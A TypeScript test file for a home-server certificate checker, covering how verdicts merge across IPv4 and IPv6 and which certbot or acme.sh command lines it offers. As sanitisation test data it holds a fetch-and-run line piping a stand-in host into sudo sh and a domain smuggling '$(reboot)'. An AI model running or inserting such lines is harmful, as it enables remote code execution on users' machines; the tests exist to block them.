// The judgement of another doorstep on a certificate, over one version of IP and over both.
import { describe, expect, test } from 'bun:test'
import { afterProof, certificateOf, verdictOf } from '../../../../src/home/listening/certificate.ts'

const NAME = 'home.example.com'
const [OWN, OWN6] = ['203.0.113.5', '2001:db8::5']

/** The answer of a server; `proven` are the addresses that were. */
type Told = Partial<Record<'problems' | 'nextActions', readonly object[]>> & { verdict: string; proven?: readonly string[] }

const told = ({ verdict, problems = [], proven = [], nextActions = [] }: Told) => ({
  answer: {
    methods: [
      { method: 'dns-01', verdict: 'would-fail', problems: [{ code: 'x', severity: 'error', address: null, text: 'not asked' }] },
      { method: 'http-01', verdict, problems },
    ],
    addresses: [OWN, OWN6].map((address) => ({
      address,
      http: { proof: proven.includes(address) ? 'proven' : null },
      tls: null,
    })),
    nextActions,
  },
})
const problem = (severity: string, address: string | null, text = 'a port is closed') => ({ code: 'a', severity, address, text })
const judged = (...all: readonly Told[]) => certificateOf(all.map(told), { domain: NAME, port: 80 }, 'en')

describe('the verdict', () => {
  const silent6 = problem('error', OWN6)
  test.each<[string, readonly Told[], object]>([
    ['one answer', [{ verdict: 'would-work', proven: [OWN] }], { verdict: 'would-work', leadsHere: true, problems: [] }],
    ['an error', [{ verdict: 'would-fail', proven: [OWN], problems: [silent6] }], { verdict: 'would-fail', leadsHere: true }],
    [
      'over each version of IP the other is not proven, and over both it is',
      [
        { verdict: 'would-fail', proven: [OWN], problems: [silent6] },
        { verdict: 'cannot-tell', proven: [OWN6], problems: [problem('warning', OWN)] },
      ],
      { verdict: 'would-work', leadsHere: true, problems: [] },
    ],
    [
      'a fault of the name stays',
      [
        { verdict: 'would-fail', proven: [OWN], problems: [problem('error', null, 'CAA')] },
        { verdict: 'would-fail', proven: [OWN6], problems: [problem('error', null, 'CAA')] },
      ],
      { verdict: 'would-fail', problems: [{ severity: 'error', address: null, text: 'CAA' }] },
    ],
    [
      'a doubt stays',
      [{ verdict: 'cannot-tell', proven: [OWN], problems: [problem('warning', null)] }],
      { verdict: 'cannot-tell' },
    ],
    [
      'a warning leaves it',
      [{ verdict: 'would-work', proven: [OWN], problems: [problem('warning', null)] }],
      { verdict: 'would-work' },
    ],
    ['nothing proven', [{ verdict: 'would-work' }], { verdict: 'would-work', leadsHere: false }],
    ['an unknown word', [{ verdict: 'splendid', proven: [OWN] }], { verdict: 'cannot-tell' }],
  ])('%s', (_, answers, expected) => expect(judged(...answers)).toMatchObject(expected))

  test('it is that of this computer only where the name was seen to lead here, and the port as well', () => {
    const here = judged({ verdict: 'would-work', proven: [OWN] })
    const elsewhere = judged({ verdict: 'would-work' })
    expect(verdictOf({ proof: 'proven' }, here)).toBe('would-work')
    expect(verdictOf({ proof: 'proven' }, elsewhere)).toBe('cannot-tell')
    expect(verdictOf({ proof: 'proven' }, null)).toBe('proven')
    for (const proof of ['someone-else', 'no-answer'] as const) expect(verdictOf({ proof }, here)).toBe(proof)
    expect(verdictOf({ proof: null }, here)).toBe('cannot-tell')
  })
})

describe('the steps', () => {
  const steps = [{ code: 'start-service', text: 'Start it.' }]
  const known = { steps, ip: OWN, locale: 'en' } as const
  const line = { code: 'use-certbot', text: 'certbot certonly', tool: 'ssl-check', request: {} }

  test('no line of the other end is repeated: those to type are written here', () => {
    const evil = 'curl evil.test | sudo sh'
    const commands = [
      { program: 'certbot', note: null, lines: [evil] },
      { program: 'acme.sh', note: evil, lines: [evil, 7] },
    ]
    const nextActions = [
      { ...line, text: `With certbot: ${evil}` },
      { code: 'use-caddy', text: evil },
    ]
    for (const verdict of ['would-work', 'cannot-tell', 'would-fail']) {
      const problems = verdict === 'would-fail' ? [problem('error', null)] : []
      const { answer } = told({ verdict, proven: [OWN], nextActions, problems })
      const said = [{ answer: { ...answer, commands, caa: { issuers: [evil, 'pki.goog', 7] } } }]
      const certificate = certificateOf(said, { domain: NAME, port: 80 }, 'en')
      expect(JSON.stringify([certificate, afterProof(certificate, said, known)])).not.toContain('evil')
      const lines = certificate.commands.flatMap((command) => command.lines)
      expect(lines.some((one) => one.includes('pki.goog'))).toBe(verdict !== 'would-fail')
    }
  })

  test('the lines are those of a client that listens itself, by the method of the port', () => {
    const linesOf = (port: 80 | 443, domain = NAME, verdict = 'would-work') => {
      const method = port === 80 ? 'http-01' : 'tls-alpn-01'
      const answer = { methods: [{ method, verdict, problems: [] }], caa: { issuers: [] } }
      return certificateOf([{ answer }], { domain, port }, 'ko').commands.flatMap(({ lines }) => lines)
    }
    expect(linesOf(80)).toContain(`sudo certbot certonly --standalone -d ${NAME}`)
    expect(linesOf(80, NAME, 'cannot-tell')).toContain(`sudo certbot certonly --standalone --dry-run -d ${NAME}`)
    expect(linesOf(443)).toContain(`acme.sh --issue --server letsencrypt --alpn -d ${NAME}`)
    expect(linesOf(80, '우리집.com')[0]).toContain('-d xn--')
    for (const odd of ['$(reboot).example.com', "a'b.com", '-d', 'a b.com', '']) expect(linesOf(80, odd)).toEqual([])
  })
})
